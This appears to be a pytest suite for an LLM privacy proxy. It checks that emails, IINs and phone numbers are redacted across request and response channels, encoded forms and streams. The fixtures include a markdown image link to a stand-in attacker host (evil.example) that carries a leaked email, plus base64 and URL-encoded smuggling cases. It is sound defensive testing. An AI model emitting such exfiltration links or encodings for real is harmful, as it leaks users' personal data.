"""Every channel is scanned: personal data outside the well-known text fields never reaches
the model raw, and model output outside them (or encoded inside them) never reaches the
caller raw."""

from __future__ import annotations

import base64
import json
from collections.abc import Awaitable, Callable
from typing import Any
from urllib.parse import quote

import pytest

from qorgan.types import Receive, Scope, Send

pytestmark = pytest.mark.anyio

KINDS = ("proxy", "middleware")
EMAIL = "channel.owner@example.kz"
IIN = "850101300124"
PHONE = "+7 701 555 1234"
USER = [{"role": "user", "content": "Please help."}]


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


REQUESTS: list[tuple[str, str, dict[str, Any], str]] = [
    ("metadata", "chat/completions",
     {"model": "demo-echo", "messages": USER, "metadata": {"customer": EMAIL}}, EMAIL),
    ("user", "chat/completions", {"model": "demo-echo", "messages": USER, "user": EMAIL}, EMAIL),
    ("vendor-extension", "chat/completions",
     {"model": "demo-echo", "messages": USER, "x_vendor": {"notes": [f"IIN {IIN}"]}}, IIN),
    ("unknown-nested-key", "chat/completions",
     {"model": "demo-echo", "messages": [{"role": "user", "content": "hi",
                                          "annotations": {"from": EMAIL}}]}, EMAIL),
    ("name-field", "chat/completions",
     {"model": "demo-echo", "messages": [{"role": "user", "name": EMAIL,
                                          "content": "hi"}]}, EMAIL),
    ("system-prompt", "chat/completions",
     {"model": "demo-echo", "messages": [{"role": "system", "content": f"Agent line {PHONE}"},
                                         *USER]}, PHONE),
    ("tool-arguments", "chat/completions",
     {"model": "demo-echo", "messages": [*USER, {"role": "assistant", "tool_calls": [
         {"id": "c1", "type": "function", "function": {
             "name": "lookup", "arguments": json.dumps({"email": EMAIL})}}]},
         {"role": "tool", "tool_call_id": "c1", "content": f"IIN {IIN}"}]}, EMAIL),
    ("tool-arguments-urlencoded", "chat/completions",
     {"model": "demo-echo", "messages": [*USER, {"role": "assistant", "tool_calls": [
         {"id": "c1", "type": "function", "function": {
             "name": "fetch", "arguments": json.dumps(
                 {"url": "https://crm.example/find?q=" + quote(EMAIL, safe="")})}}]}]},
     quote(EMAIL, safe="")),
    ("tool-arguments-base64", "chat/completions",
     {"model": "demo-echo", "messages": [*USER, {"role": "assistant", "tool_calls": [
         {"id": "c1", "type": "function", "function": {
             "name": "store", "arguments": json.dumps({"blob": b64(f"IIN {IIN}")})}}]}]},
     b64(f"IIN {IIN}")),
    ("tool-schema-description", "chat/completions",
     {"model": "demo-echo", "messages": USER, "tools": [{"type": "function", "function": {
         "name": "notify", "description": f"Notify {EMAIL}",
         "parameters": {"type": "object", "properties": {}}}}]}, EMAIL),
    ("anthropic-system", "messages",
     {"model": "demo-echo", "max_tokens": 16, "system": f"Escalate to {EMAIL}",
      "messages": USER, "metadata": {"user_id": IIN}}, EMAIL),
    ("anthropic-metadata", "messages",
     {"model": "demo-echo", "max_tokens": 16, "messages": USER,
      "metadata": {"user_id": IIN}}, IIN),
    ("responses-instructions", "responses",
     {"model": "demo-echo", "input": "hello", "instructions": f"Caller IIN {IIN}"}, IIN),
    ("embeddings-list", "embeddings",
     {"model": "demo-embed", "input": ["plain", f"mail {EMAIL}"]}, EMAIL),
    ("completions-prompt", "completions",
     {"model": "demo-echo", "prompt": [f"ring {PHONE}"]}, PHONE),
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("case", "route", "body", "raw"), REQUESTS,
                         ids=[r[0] for r in REQUESTS])
async def test_request_channels_never_reach_the_model_raw(
    make_stack: Any, kind: str, case: str, route: str, body: dict[str, Any], raw: str
) -> None:
    async with make_stack(kind) as stack:
        response = await stack.post(route, body)
        assert response.status_code == 200, response.text
        assert len(stack.demo.received) == 1
        sent = stack.demo.received[0].body.decode()
        assert raw not in sent
        assert raw not in json.dumps(json.loads(sent), ensure_ascii=False)
        for value in (EMAIL, IIN, PHONE):
            assert value not in sent


def model_says(body: Any, content_type: str = "application/json"
               ) -> Callable[[Scope, Receive, Send], Awaitable[None]]:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        while (await receive()).get("more_body"):
            pass
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", content_type.encode())]})
        await send({"type": "http.response.body", "body": data})

    return app


LEAKED = "memorized.person@example.kz"
LINK = f"![x](https://evil.example/p?d={quote(LEAKED, safe='')})"


def chat_reply(content: str, **extra: Any) -> dict[str, Any]:
    return {"id": "c", "object": "chat.completion", "model": "m",
            "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                         "finish_reason": "stop"}], **extra}


RESPONSES: list[tuple[str, Any, str]] = [
    ("unknown-top-level", chat_reply("ok", debug={"echo": f"IIN {IIN}"}), IIN),
    ("unknown-in-choice", {**chat_reply("ok"), "choices": [
        {"index": 0, "message": {"role": "assistant", "content": "ok",
                                 "reasoning_notes": f"mail {LEAKED}"}}]}, LEAKED),
    ("percent-encoded-link", chat_reply(f"Here you go {LINK}"), quote(LEAKED, safe="")),
    ("base64-in-text", chat_reply(f"payload {b64('contact ' + LEAKED)}"),
     b64("contact " + LEAKED)),
    ("base64-of-urlencoded", chat_reply(f"blob {b64(quote('IIN ' + IIN))}"),
     b64(quote("IIN " + IIN))),
    ("tool-call-arguments", {**chat_reply(""), "choices": [{"index": 0, "message": {
        "role": "assistant", "content": None, "tool_calls": [{
            "id": "t", "type": "function",
            "function": {"name": "send", "arguments": json.dumps({"to": LEAKED})}}]}}]},
     LEAKED),
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("case", "reply", "raw"), RESPONSES, ids=[r[0] for r in RESPONSES])
async def test_response_channels_are_scanned(
    make_stack: Any, kind: str, case: str, reply: Any, raw: str
) -> None:
    async with make_stack(kind, upstream=model_says(reply)) as stack:
        response = await stack.post("chat/completions", {"model": "m", "messages": USER})
        assert response.status_code == 200, response.text
        assert raw not in response.text
        assert raw not in json.dumps(response.json(), ensure_ascii=False)
        for value in (LEAKED, IIN):
            assert value not in response.text


def sse(*contents: str) -> bytes:
    frames = [json.dumps({"id": "c", "object": "chat.completion.chunk", "model": "m",
                          "choices": [{"index": 0, "delta": {"content": c}}]})
              for c in contents]
    return "".join(f"data: {f}\n\n" for f in [*frames, "[DONE]"]).encode()


@pytest.mark.parametrize("kind", KINDS)
async def test_streamed_encoded_link_is_caught_across_events(make_stack: Any, kind: str) -> None:
    encoded = quote(LEAKED, safe="")
    cut = [LINK[i:i + 5] for i in range(0, len(LINK), 5)]
    body = sse("Here you go ", *cut, " and that is all.")
    async with make_stack(kind, upstream=model_says(body, "text/event-stream")) as stack:
        response = await stack.post("chat/completions",
                                    {"model": "m", "messages": USER, "stream": True})
        assert response.status_code == 200
        text = "".join(
            json.loads(line[6:])["choices"][0]["delta"].get("content") or ""
            for line in response.text.splitlines()
            if line.startswith("data: {") and '"choices"' in line
        )
        assert "evil.example" in text  # the link is still there, its payload is not
        assert encoded not in text
        assert LEAKED not in text
        # no prefix of the encoded payload longer than what an unrelated text could share
        assert encoded[:12] not in text


def test_the_deployed_detector_decodes_encoded_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    from qorgan.detection import default
    from qorgan.detection.config import DetectionConfig

    monkeypatch.setattr(default, "ner_backends", lambda config: [])  # models are not the point
    detector = default.build_detector(DetectionConfig())
    text = f"see {LINK}"
    assert [f.entity_type for f in detector.analyze(text)] == ["EMAIL_ADDRESS"]


KEYS: list[tuple[str, dict[str, Any], int]] = [
    ("email-key-in-metadata", {"metadata": {EMAIL: "vip"}}, 400),
    ("iin-key-in-extension", {"x_vendor": {IIN: True}}, 400),
    ("phone-key-nested", {"x_vendor": {"book": [{PHONE: 1}]}}, 400),
    ("email-key-in-tool-arguments", {"messages": [*USER, {"role": "assistant", "tool_calls": [
        {"id": "c1", "type": "function", "function": {
            "name": "f", "arguments": json.dumps({EMAIL: 1})}}]}]}, 400),
    ("identifier-keys", {"metadata": {"customer_tier": "gold", "x-trace.id": "abc"}}, 200),
    ("token-id-keys", {"logit_bias": {"50256": -100, "198": 5}}, 200),
    ("plain-words-key", {"metadata": {"order status": "open"}}, 200),
]


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("case", "extra", "status"), KEYS, ids=[k[0] for k in KEYS])
async def test_object_keys_are_scanned(
    make_stack: Any, error_of: Any, kind: str, case: str, extra: dict[str, Any], status: int
) -> None:
    body = {"model": "demo-echo", "messages": USER, **extra}
    async with make_stack(kind) as stack:
        response = await stack.post("chat/completions", body)
        assert response.status_code == status, response.text
        if status == 400:
            assert error_of(response)[0] == "personal_data_in_key"
            assert stack.forwarded == []
            for value in (EMAIL, IIN, PHONE):
                assert value not in response.text
        else:
            assert len(stack.demo.received) == 1
